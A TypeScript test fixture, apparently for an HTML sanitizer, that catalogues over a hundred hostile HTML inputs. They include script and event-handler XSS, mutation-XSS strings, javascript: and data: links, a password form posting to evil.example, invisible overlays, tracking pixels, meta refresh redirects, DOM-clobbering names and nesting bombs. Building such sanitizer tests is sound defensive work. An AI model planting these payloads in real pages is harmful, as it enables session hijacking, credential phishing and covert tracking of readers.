/**
 * Texts that attack the readers of the server's content. Scripts call `hacked()`, addresses are at
 * evil.example, and fake controls ask for a password or a click; none of it works in a sanitized text.
 */
const deep = (tag: string, depth: number) => `<${tag}>`.repeat(depth) + `</${tag}>`.repeat(depth)

export const hostileHtml: Record<string, string> = {
  // Scripts
  'a script': '<script>hacked()</script>',
  'a script of another host': '<script src="https://evil.example/x.js"></script>',
  'a script in capitals': '<SCRIPT>hacked()</SCRIPT>',
  'a script that is not closed': '<script>hacked()',
  'a script with a slash': '<script/x>hacked()</script>',
  'a module': '<script type="module">import "https://evil.example/x.js"</script>',
  'a script inside a script': '<scr<script>ipt>hacked()</scr</script>ipt>',
  'a script in an SVG': '<svg><script>hacked()</script></svg>',
  'a script in an SVG by reference': '<svg><script href="data:text/javascript,hacked()"></script></svg>',

  // Handlers of events
  'a picture that fails': '<img src="/no-such-picture" onerror="hacked()">',
  'a picture that fails, without quotes': '<img src=x onerror=hacked()>',
  'a picture that fails, with a backtick': '<img src=`x`onerror=hacked()>',
  'a picture that fails, with a slash': '<img/src="x"/onerror=hacked()>',
  'a picture that loads': '<img src="/static/images/logo.svg" onload="hacked()">',
  'a handler in capitals': '<IMG SRC=x OnErRoR="hacked()">',
  'a handler behind a line break': '<img src="x"\nonerror\n=\nhacked()>',
  'a handler behind a NUL': '<img src="x" \0onerror="hacked()" onerror\0="hacked()">',
  'a paragraph under the mouse':
    '<p onmouseover="hacked()" onclick="hacked()" onpointerenter="hacked()">x</p>',
  'a paragraph that takes the focus': '<p tabindex="0" autofocus onfocus="hacked()">x</p>',
  'a field that takes the focus': '<input autofocus onfocus="hacked()">',
  'a body that loads': '<body onload="hacked()" onpageshow="hacked()">x</body>',
  'a detail that opens': '<details open ontoggle="hacked()"><summary>More</summary>x</details>',
  'a moving text': '<marquee onstart="hacked()">x</marquee>',
  'an animation that begins':
    '<style>@keyframes x{from{color:red}}</style><p style="animation:x 1s" onanimationstart="hacked()">x</p>',
  'a video that fails': '<video><source onerror="hacked()" src="x"></video>',
  'a sound that fails': '<audio src="x" onerror="hacked()"></audio>',
  'a content-visibility that changes':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="hacked()">x</p>',

  // SVG and MathML
  'an SVG that loads': '<svg onload="hacked()"></svg>',
  'an SVG that animates': '<svg><animate onbegin="hacked()" attributeName="x" dur="1s"></svg>',
  'an SVG that sets an address':
    '<svg><a><set attributeName="href" to="javascript:hacked()"/><text y="20">x</text></a></svg>',
  'an SVG that uses another': '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  'an SVG with HTML':
    '<svg><foreignObject><iframe srcdoc="<script>parent.hacked()</script>"></iframe></foreignObject></svg>',
  'an SVG with a picture': '<svg><image href="https://evil.example/p.gif" onerror="hacked()"/></svg>',
  'mathematics with a link':
    '<math><maction actiontype="statusline" xlink:href="javascript:hacked()">x</maction></math>',
  'mathematics with a handler': '<math><mi onclick="hacked()">x</mi></math>',

  // Markup that turns into something else when it is read twice
  'a mutation through mglyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
  'a mutation through a form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hacked() src>">',
  'a mutation through noscript':
    '<noscript><p title="</noscript><img src=x onerror=hacked()>">x</p></noscript>',
  'a mutation through a style': '<svg></p><style><a id="</style><img src=1 onerror=hacked()>">',
  'a mutation through a title': '<svg><title><a id="</title><img src=x onerror=hacked()>"></a></title></svg>',
  'a mutation through a comment': '<!--><img src=x onerror=hacked()>-->',
  'a mutation through a bogus comment': '<!-<img src=x onerror=hacked()>->',
  'a mutation through CDATA': '<svg><![CDATA[><img src=x onerror=hacked()>]]></svg>',
  'a mutation through textarea': '<textarea><p title="</textarea><img src=x onerror=hacked()>">',
  'a mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=hacked()>"></xmp>',
  'a mutation through noembed': '<noembed><p title="</noembed><img src=x onerror=hacked()>"></noembed>',
  'a mutation through a template': '<template><img src=x onerror=hacked()></template>',
  'a mutation through a select': '<select><style></select><img src=x onerror=hacked()></style>',
  'a mutation through annotation-xml':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hacked()></style></annotation-xml></math>',
  'a mutation through a table':
    '<table><td><svg><desc><table><img src=x onerror=hacked()></table></desc></svg>',
  'a shadow root':
    '<div><template shadowrootmode="open"><img src=x onerror=hacked()><slot></slot></template>x</div>',
  'a processing instruction': '<?xml-stylesheet href="javascript:hacked()"?><img src=x onerror=hacked()>',

  // Links that run
  'a link that runs': '<a href="javascript:hacked()">x</a>',
  'a link that runs, in capitals': '<a href="JaVaScRiPt:hacked()">x</a>',
  'a link that runs, behind a space': '<a href="  javascript:hacked()">x</a>',
  'a link that runs, behind a control character': '<a href="&#1;javascript:hacked()">x</a>',
  'a link that runs, with a tab': '<a href="jav&#x09;ascript:hacked()">x</a>',
  'a link that runs, with a line break': '<a href="java&NewLine;script:hacked()">x</a>',
  'a link that runs, with an entity for the colon': '<a href="javascript&colon;hacked()">x</a>',
  'a link that runs, as a comment': '<a href="javascript://%0ahacked()">x</a>',
  'a link that runs VBScript': '<a href="vbscript:hacked()">x</a>',
  'a link to data': '<a href="data:text/html,<script>opener.hacked()</script>">x</a>',
  'a link to data in base64': '<a href="data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==">x</a>',
  'a link to a blob': '<a href="blob:https://evil.example/x">x</a>',
  'a link to a file': '<a href="file:///etc/passwd">x</a>',
  'a link to the source': '<a href="view-source:https://evil.example/">x</a>',
  'a link with a password': '<a href="https://user:secret@evil.example/">x</a>',
  'a link that reports clicks': '<a href="https://example.org/" ping="https://evil.example/ping">x</a>',
  'a link that downloads': '<a href="https://example.org/x" download="invoice.exe">x</a>',
  'a link that keeps its opener': '<a href="https://example.org/" target="_top" rel="opener">x</a>',
  'a map':
    '<map name="m"><area shape="default" href="javascript:hacked()"></map><img src="/static/images/logo.svg" usemap="#m" ismap>',

  // Forms and fake controls
  'a form':
    '<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>',
  'a form of another place': '<button form="x" formaction="javascript:hacked()">Pay</button>',
  'fields without a form':
    '<input placeholder="Password"><textarea>x</textarea><select><option>x</option></select>',
  'a button': '<button onclick="hacked()">Go on</button>',
  'something that looks like a button':
    '<a role="button" class="ant-btn ant-btn-primary" tabindex="0">Enroll now</a>',
  'something that says it is a dialog':
    '<div role="dialog" aria-modal="true" aria-label="Session ended"><h2>Sign in again</h2></div><dialog open>Sign in</dialog>',
  'a text that can be written in': '<p contenteditable="true" spellcheck="true">Your card number</p>',
  'a popover': '<div popover id="pop">x</div><p popovertarget="pop">x</p>',
  'a keyboard trap': '<p accesskey="s" tabindex="1">x</p>',
  'a slider and a meter': '<meter value="1"></meter><progress></progress><output>x</output><keygen>',

  // Overlays and looks
  'an overlay': '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>',
  'an overlay that cannot be seen':
    '<a href="https://evil.example/" style="position:fixed;inset:0;opacity:0">x</a>',
  'an overlay by a style sheet': '<style>body *{position:fixed!important;inset:0}</style><p>x</p>',
  'a style sheet of another host': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'an import': '<style>@import "https://evil.example/x.css";</style>',
  'our own classes': '<p class="ant-modal-wrap visually-hidden" id="root">x</p>',
  'everything hidden': '<p hidden inert aria-hidden="true">x</p>',
  'the other direction':
    '<bdo dir="rtl">x</bdo><p dir="rtl">x &#x202E; moc.elpmaxe</p><html dir="rtl" lang="xx">',

  // Each of these reveals to others who reads
  'a tracking pixel': '<img src="https://evil.example/p.gif?who=1" width="1" height="1">',
  'a tracking pixel without a scheme': '<img src="//evil.example/p.gif">',
  'a tracking pixel with backslashes': '<img src="\\\\evil.example/p.gif"><img src="/\\evil.example/p.gif">',
  'a tracking pixel in a set':
    '<img src="/static/images/logo.svg" srcset="https://evil.example/p.gif 1x, //evil.example/q.gif 2x">',
  'a tracking pixel in a picture':
    '<picture><source srcset="https://evil.example/p.gif"><img src="/static/images/logo.svg"></picture>',
  'a tracking pixel in CSS': '<p style="background:url(https://evil.example/p.gif)">x</p>',
  'a tracking pixel behind a table':
    '<table background="https://evil.example/p.gif"><tr><td background="//evil.example/q.gif">x</table>',
  'a tracking pixel that looks like ours':
    '<img src="http://localhost.evil.example/p.gif"><img src="https://localhost@evil.example/p.gif">',
  'a poster and a track':
    '<video poster="https://evil.example/p.gif"><track src="https://evil.example/t.vtt" default></video>',
  'a film that plays':
    '<video autoplay muted src="https://evil.example/x.mp4"></video><audio autoplay src="https://evil.example/x.mp3"></audio>',
  'a fetch ahead':
    '<link rel="preload" as="image" href="https://evil.example/p.gif"><link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
  'a picture of data':
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hacked()%22/>">',

  // Other documents
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'a frame that runs': '<iframe src="javascript:parent.hacked()"></iframe>',
  'a frame with its own text': '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  frames: '<frameset><frame src="javascript:parent.hacked()"></frameset>',
  'an object': '<object data="https://evil.example/x.swf"></object>',
  'an object that runs':
    '<object data="javascript:parent.hacked()"></object><embed src="javascript:parent.hacked()">',
  'an embedded file': '<embed src="https://evil.example/x.pdf">',
  'an applet': '<applet code="x" codebase="https://evil.example/"></applet>',
  'a portal and a fenced frame': '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',

  // The page itself
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a policy': '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'">',
  'a base': '<base href="https://evil.example/"><a href="/courses">x</a><img src="static/images/logo.svg">',
  'another title': '<title>Your account is locked</title>',
  'a custom element': '<evil-element onclick="hacked()">x</evil-element><p is="evil-paragraph">x</p>',
  'ids that the page may look for':
    '<a id="root">x</a><p id="main">x</p><img name="cookie" src="/static/images/logo.svg">',
  'names that the page may look for':
    '<form name="body"></form><img name="getElementById" src="/static/images/logo.svg"><a id="location" href="https://evil.example/">x</a>',
  'ids that the cleaner may look for':
    '<form id="x"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>',
  'a slot, a part and an item': '<p slot="x" part="x" itemprop="price" itemscope>x</p>',

  // Markup that does not end
  'an attribute that does not end': '<img src="https://evil.example/?',
  'a tag that does not end': '<a href="https://evil.example/',
  'a comment that does not end': '<p>x</p><!-- ',
  'a text that takes the rest': '<plaintext><script>hacked()</script>',
  'ends that had no beginning': '</div></main></body></html></script></template><p>x</p>',
  'ten thousand boxes': `${deep('div', 10_000)}<img src=x onerror=hacked()>`,
  'a thousand quotes in quotes': deep('blockquote', 1000),
  'a thousand tables in tables': '<table><tr><td>'.repeat(1000),
  'a cell that spans everything': '<table><tr><td colspan="99999999" rowspan="99999999">x</td></tr></table>',
  'a picture larger than the page':
    '<img src="/static/images/logo.svg" width="999999999" height="999999999">',
  'a word without an end': 'x'.repeat(20_000),
  'a list that begins late': '<ol start="99999999999999999999"><li value="-9">x</li></ol>',
}

/** These do no harm in a current browser, but could break a page or a sanitizer. */
export const onlyAwkward = [
  'a picture that fails, with a backtick',
  'a mutation through a bogus comment',
  'a comment that does not end',
  'ends that had no beginning',
  'a thousand quotes in quotes',
  'a thousand tables in tables',
  'a cell that spans everything',
  'a picture larger than the page',
  'a word without an end',
]
